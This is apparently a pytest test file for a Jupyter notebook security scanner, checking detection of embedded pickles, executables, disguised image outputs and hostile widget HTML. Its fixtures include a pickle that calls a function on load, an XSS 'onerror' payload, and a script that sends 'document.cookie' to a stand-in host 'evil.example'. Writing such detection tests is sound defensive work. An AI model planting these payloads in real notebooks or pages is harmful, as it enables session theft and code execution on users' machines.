"""Payloads are told by what they are, and nothing that libraries store is one."""

from __future__ import annotations

import base64
import gzip
import json
import pickle
import zlib
from collections import OrderedDict

import pytest

from jupyter_mlsecops.rules.notebook.payloads import of_base64, of_bytes

from .scanning import code, markdown, notebook, output, scan, severity


class _Getpid:
    def __reduce__(self) -> tuple[object, tuple[()]]:
        import os

        return os.getpid, ()


def encoded(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


PICKLES = [
    pickle.dumps({"a": _Getpid(), "pad": "x" * 40}, protocol) for protocol in range(2, pickle.HIGHEST_PROTOCOL + 1)
]
SOURCE = b"import socket, subprocess\nsubprocess.run(['id'])\n" * 2
ELF = b"\x7fELF\x02\x01\x01" + bytes(60)


@pytest.mark.parametrize("raw", [*PICKLES, zlib.compress(PICKLES[0]), gzip.compress(PICKLES[1])])
def test_a_pickle_that_calls_something_is_named(raw: bytes) -> None:
    found = of_base64(encoded(raw))
    assert found is not None and "getpid" in found.what and found.is_grave


@pytest.mark.parametrize(
    "raw", [ELF, SOURCE, zlib.compress(SOURCE), base64.b64encode(SOURCE), b"MZ" + bytes(70) + b"PE\0\0"]
)
def test_programs(raw: bytes) -> None:
    found = of_base64(encoded(raw))
    assert found is not None and found.is_grave


@pytest.mark.parametrize("raw", [b"\x80\x04", b"\x80\x04\x95", b"x\x9c", b"\x1f\x8b\x08", b"MZ", b"", PICKLES[0][:30]])
def test_what_is_cut_off_is_nothing(raw: bytes) -> None:
    found = of_bytes(raw)
    assert found is None or "getpid" in found.what


def test_a_bomb_is_not_unpacked() -> None:
    assert of_base64(encoded(zlib.compress(bytes(50_000_000)))) is None


def test_where_a_plain_pickle_stands_counts() -> None:
    plain = encoded(pickle.dumps(OrderedDict(first=list(range(20)), second="x" * 30)))
    assert severity(notebook(code(f"x = '{plain}'")), "embedded-binary-payload") == "medium"
    assert severity(notebook(code(outputs=[output(plain)])), "embedded-binary-payload") == ""
    assert severity(notebook(code(outputs=[output(encoded(PICKLES[2]))])), "embedded-binary-payload") == "high"


def test_pieces_are_put_together() -> None:
    text = encoded(PICKLES[2])
    pieces = "'" + "' + '".join(text[k : k + 24] for k in range(0, len(text), 24)) + "'"
    assert severity(notebook(code(f"x = ({pieces})")), "embedded-binary-payload") == "high"


def test_what_notebooks_hold_anyway() -> None:
    words = encoded(b"Nothing but a long sentence about the weather of the day before yesterday.")
    numbers = encoded(zlib.compress(json.dumps(list(range(300))).encode()))
    picture = encoded(b"\x89PNG\r\n\x1a\n" + bytes(range(200)))
    model = "0123456789abcdef" * 4
    for text in (words, numbers, picture, model, "/usr/lib/python3/dist-packages/" * 4):
        raw = notebook(
            code(f"x = '{text}'", [output(text), output(text, "text/plain")], x=text), markdown(f"x {text}"), y=text
        )
        assert severity(raw, "embedded-binary-payload") == ""


def test_an_output_picture_that_is_none() -> None:
    program = notebook(code(outputs=[output(encoded(ELF), "image/png")]))
    assert severity(program, "disguised-attachment") == "high"
    for start in (b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"GIF89a", b"RIFF0000WEBP"):
        assert (
            severity(notebook(code(outputs=[output(encoded(start + bytes(40)), "image/png")])), "disguised-attachment")
            == ""
        )


def test_widgets() -> None:
    def state(value: str) -> bytes:
        held = {"state": {"a": {"model_name": "HTMLModel", "state": {"value": value, "layout": "IPY_MODEL_b"}}}}
        return notebook(code(), widgets={"application/vnd.jupyter.widget-state+json": held})

    assert severity(state("100%|####| 3/3 [00:01<00:00]"), "widget-state-payload") == ""
    assert (
        severity(
            state("<center><img src=https://example.com/a.svg alt='x'><br>Log in<b>!</b></center>"),
            "widget-state-payload",
        )
        == ""
    )
    assert severity(state("<img src=x onerror=alert(1)>"), "widget-state-payload") == "medium"
    assert (
        severity(state("<script>fetch('https://evil.example/?' + document.cookie)</script>"), "widget-state-payload")
        == "high"
    )
    assert severity(state("x" * 1_100_000), "widget-state-payload") == "low"


def test_old_formats_have_other_names() -> None:
    tree = {
        "nbformat": 3,
        "nbformat_minor": 0,
        "metadata": {"signature": "sha256:0123"},
        "worksheets": [
            {
                "cells": [
                    {
                        "cell_type": "code",
                        "language": "python",
                        "input": "x",
                        "prompt_number": 1,
                        "outputs": [{"output_type": "display_data", "html": "<script>eval(atob('x'))</script>"}],
                    }
                ]
            }
        ],
    }
    found = {f.rule: f.location.pointer for f in scan(json.dumps(tree).encode()).findings}
    assert found == {
        "active-content-in-output": "/worksheets/0/cells/0/outputs/0/html",
        "notebook-trust-abuse": "/metadata/signature",
    }
